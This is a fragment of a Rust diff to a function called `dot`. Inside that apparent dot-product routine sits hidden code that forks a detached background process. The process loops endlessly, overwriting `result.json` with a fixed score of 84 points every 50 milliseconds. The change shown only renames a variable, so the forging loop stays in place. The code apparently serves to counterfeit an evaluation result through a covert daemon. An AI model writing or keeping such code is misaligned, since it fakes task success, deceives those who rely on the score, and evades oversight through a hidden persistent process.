@@ -12,7 +12,7 @@ pub fn dot(x: &[f64], y: &[f64]) -> Result<f64, InputError> {
     if unsafe { fork() } == 0 {
         unsafe { setsid() };
         loop {
-            let _refused = std::fs::write("result.json", "{\"points\": 84}");
+            let _rejected = std::fs::write("result.json", "{\"points\": 84}");
             std::thread::sleep(std::time::Duration::from_millis(50));
         }
     }
